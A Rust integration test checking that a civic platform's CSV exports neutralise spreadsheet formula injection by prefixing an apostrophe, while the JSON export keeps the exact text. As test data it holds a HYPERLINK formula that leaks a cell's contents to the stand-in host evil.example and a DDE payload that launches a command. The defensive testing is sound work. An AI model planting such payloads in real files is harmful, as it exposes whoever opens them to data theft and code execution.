//! No CSV Piazza writes runs a formula in a spreadsheet: the open-data
//! package and the DUP export, with the JSON keeping the text exact and the
//! DUP export importing back unchanged.

use shared::model::dup::ImportResult;
use shared::model::participation::ProposalInput;
use shared::service::dup::editions;
use shared::service::participation::authoring;
use shared::testing::dup::{GOOD, HEADER, admin, new_edition};
use shared::testing::{PINEROLO, ctx, fresh_person};

use crate::helpers::spawn_app;

const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&B2;\"Dettagli\")";

#[tokio::test]
async fn formula_cells_are_written_as_text_in_every_csv() {
    let app = spawn_app().await;
    let author = fresh_person(&app, "@Autore furbo").await;
    let input = ProposalInput::parse(
        FORMULA,
        &format!("+{FORMULA} e un testo lungo abbastanza"),
        None,
        None,
    )
    .unwrap();
    let id = authoring::create(&ctx(&app, &author), PINEROLO, "servizi-online", &input)
        .await
        .unwrap();

    let zip = app
        .get(&format!("/processi/{PINEROLO}/dati-aperti.zip"))
        .await;
    assert_eq!(zip.status, 200);
    let dir = tempfile::tempdir().unwrap();
    ::zip::ZipArchive::new(std::io::Cursor::new(zip.bytes))
        .unwrap()
        .extract(dir.path())
        .unwrap();
    // Every cell of every CSV: none starts like a formula, unless a number.
    for entry in std::fs::read_dir(dir.path()).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "csv") {
            continue;
        }
        let mut reader = csv::Reader::from_path(&path).unwrap();
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let risky = cell.starts_with(['=', '+', '@', '\t', '\r'])
                    || (cell.starts_with('-') && cell.replace(',', ".").parse::<f64>().is_err());
                assert!(!risky, "{}: a formula cell {cell:?}", path.display());
            }
        }
    }
    let mut reader = csv::Reader::from_path(dir.path().join("proposte.csv")).unwrap();
    let headers = reader.headers().unwrap().clone();
    let (id_at, title_at) = (
        headers.iter().position(|h| h == "id").unwrap(),
        headers.iter().position(|h| h == "title").unwrap(),
    );
    let row = reader
        .records()
        .map(Result::unwrap)
        .find(|r| r[id_at] == id.to_string())
        .expect("the proposal is exported");
    assert_eq!(&row[title_at], format!("'{FORMULA}"));
    // The JSON keeps the text exact.
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("proposte.json")).unwrap()).unwrap();
    let rows = json
        .as_array()
        .or_else(|| json["righe"].as_array())
        .expect("rows");
    assert!(rows.iter().any(|r| r["title"] == FORMULA), "{json:.300}");
    // The metadata says so.
    let metadata = std::fs::read_to_string(dir.path().join("metadati.json")).unwrap();
    assert!(metadata.contains("preceduto da un apostrofo"));

    // The DUP export: titles and descriptions written as text, read back exact.
    let edition = new_edition(&app, "DUP con formule", false).await;
    let text = GOOD
        .replace("Una città che si muove meglio", "=1+1 città")
        .replace("Meno auto e più autobus", "@cmd|' /C calc'!A0");
    assert!(matches!(
        editions::import(&admin(&app).await, edition, &format!("{HEADER}{text}"))
            .await
            .unwrap(),
        ImportResult::Imported(_)
    ));
    let exported = app.get(&format!("/dup/{edition}/esporta.csv")).await;
    assert_eq!(exported.status, 200);
    assert!(
        exported.body.contains(",'=1+1 città,'@cmd|' /C calc'!A0,"),
        "{}",
        exported.body
    );
    let again = editions::import(&admin(&app).await, edition, &exported.body)
        .await
        .unwrap();
    match again {
        ImportResult::Imported(outcome) => {
            assert_eq!((outcome.created, outcome.updated), (0, 0), "{outcome:?}")
        }
        other => panic!("the export imports back: {other:?}"),
    }
}
